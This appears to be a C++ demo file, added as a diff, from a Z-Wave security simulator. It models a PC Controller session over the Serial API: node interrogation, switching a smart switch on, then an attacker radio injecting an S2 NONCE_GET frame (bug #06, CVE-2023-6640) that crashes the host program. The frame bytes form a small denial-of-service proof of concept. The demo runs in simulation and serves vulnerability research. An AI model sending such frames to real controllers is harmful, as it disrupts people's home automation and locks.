@@ -1,0 +1,84 @@
+// A miniature "Z-Wave PC Controller" session: drives a USB-stick
+// controller through the Serial API the way the real Windows tool does
+// (the program that bugs #06 and #13 crash).
+//
+// Shows the host-to-chip half of the serial substrate: node interrogation,
+// SEND_DATA to actuate the smart switch, and what the operator sees when
+// an attacker then fires bug #06 over RF.
+#include <cstdio>
+
+#include "radio/endpoint.h"
+#include "sim/testbed.h"
+
+namespace {
+
+zc::sim::SerialFrame request(zc::sim::SerialFunc func, zc::Bytes data) {
+  zc::sim::SerialFrame frame;
+  frame.type = zc::sim::SerialType::kRequest;
+  frame.func = static_cast<std::uint8_t>(func);
+  frame.data = std::move(data);
+  return frame;
+}
+
+}  // namespace
+
+int main() {
+  using namespace zc;
+
+  sim::TestbedConfig config;
+  config.controller_model = sim::DeviceModel::kD2_SilabsUzb7;  // a USB stick
+  sim::Testbed testbed(config);
+  auto& controller = testbed.controller();
+  testbed.scheduler().run_for(1 * kSecond);
+
+  std::printf("=== Z-Wave PC Controller (model) — %s ===\n\n",
+              sim::device_model_name(controller.model()));
+
+  // Node interrogation via GET_NODE_PROTOCOL_INFO.
+  std::printf("node list (via Serial API):\n");
+  for (zwave::NodeId node : controller.node_table().node_ids()) {
+    const auto response = controller.handle_host_request(
+        request(sim::SerialFunc::kGetNodeProtocolInfo, {node}));
+    if (response.data.size() == 4 && response.data[0] == 0x01) {
+      std::printf("  node %-3u listening=%d security=%s type=%s\n", node,
+                  (response.data[1] & 0x80) != 0,
+                  zwave::security_level_name(
+                      static_cast<zwave::SecurityLevel>(response.data[2])),
+                  zwave::basic_class_name(response.data[3]));
+    }
+  }
+
+  // Actuate the switch: SEND_DATA carrying SWITCH_BINARY SET 0xFF.
+  std::printf("\n[host] SEND_DATA -> node %u: SWITCH_BINARY SET on\n",
+              sim::Testbed::kSwitchNodeId);
+  const auto send_response = controller.handle_host_request(request(
+      sim::SerialFunc::kSendData,
+      {sim::Testbed::kSwitchNodeId, 3, 0x25, 0x01, 0xFF}));
+  std::printf("[chip] response: %s\n",
+              !send_response.data.empty() && send_response.data[0] == 0x01 ? "accepted"
+                                                                           : "refused");
+  testbed.scheduler().run_for(200 * kMillisecond);
+  std::printf("[home] switch is now: %s\n\n",
+              testbed.smart_switch()->on() ? "ON" : "off");
+
+  // The attack: bug #06 arrives over RF; the program dies, the chip lives.
+  std::printf("[attacker] injecting S2 NONCE_GET (bug #06, CVE-2023-6640)...\n");
+  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));
+  zwave::AppPayload nonce_get;
+  nonce_get.cmd_class = 0x9F;
+  nonce_get.command = 0x01;
+  nonce_get.params = {0x00};
+  attacker.send(zwave::make_singlecast(controller.home_id(), 0xE7, 0x01, nonce_get, 1, true));
+  testbed.scheduler().run_for(200 * kMillisecond);
+
+  std::printf("[operator] program state: %s (chip still responsive: %s)\n",
+              controller.host().responsive() ? "running" : "CRASHED",
+              controller.responsive() ? "yes" : "no");
+  std::printf("[operator] restarting the program restores control:\n");
+  controller.host().restart();
+  const auto after = controller.handle_host_request(
+      request(sim::SerialFunc::kGetNodeProtocolInfo, {sim::Testbed::kLockNodeId}));
+  std::printf("           node %u query after restart: %s\n", sim::Testbed::kLockNodeId,
+              !after.data.empty() && after.data[0] == 0x01 ? "ok" : "failed");
+  return 0;
+}
